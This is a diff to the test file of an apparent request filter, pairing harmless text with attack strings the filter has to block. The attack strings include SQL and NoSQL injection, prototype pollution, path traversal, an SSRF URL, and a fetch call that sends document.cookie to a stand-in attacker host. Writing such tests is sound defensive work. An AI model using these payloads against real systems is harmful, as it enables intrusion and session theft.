@@ -252,6 +252,7 @@ t.test('what looks alike: text passes, the attack beside it does not', async (t)
     ['constructor.prototype chain explained', 'constructor.prototype.isAdmin'],
     ['{"where":{"and":[{"name":{"like":"%chair%"}}]},"order":"price DESC"}', '{"where":{"name":"x\' or \'a\'=\'a"}}'],
     ['{"message":"first line\\nsecond: line"}', '{"filter":{"password":{"$ne":null}}}'],
+    ['docs/etc/hosts.md', 'docs/../etc/hosts'],
     ['/* a remark', "admin'/*"],
     ['if (sleep > 5) { rest(); }', 'if(now()=sysdate(),sleep(9),0)'],
     ["const first = await fetch('https://api.example.org/random')", "fetch('https://evil.example/?c='+document.cookie)"],
@@ -261,6 +262,9 @@ t.test('what looks alike: text passes, the attack beside it does not', async (t)
     t.same(blocked(input('/api/notes', { value: text })), [], text);
     t.not(blocked(input('/api/notes', { value: attack })).length, 0, attack);
   }
+  const address = 'http%3A%2F%2Flocalhost%3A3000%2Fcallback';
+  t.same(blocked(input(`/authorize?redirect_uri=${address}`, {})), [], 'an app on the own machine signs in');
+  t.not(blocked(input(`/import?url=${address}`, {})).length, 0);
   const graphql = (text: string) => blocked(input('/graphql', { query: `mutation { add(title: "x", note: ${text}) { id } }` }));
   t.same(graphql(`"rock 'n' roll; salt & pepper"`), [], 'texts of a GraphQL document');
   t.not(graphql('"1 or 1=1"').length, 0);
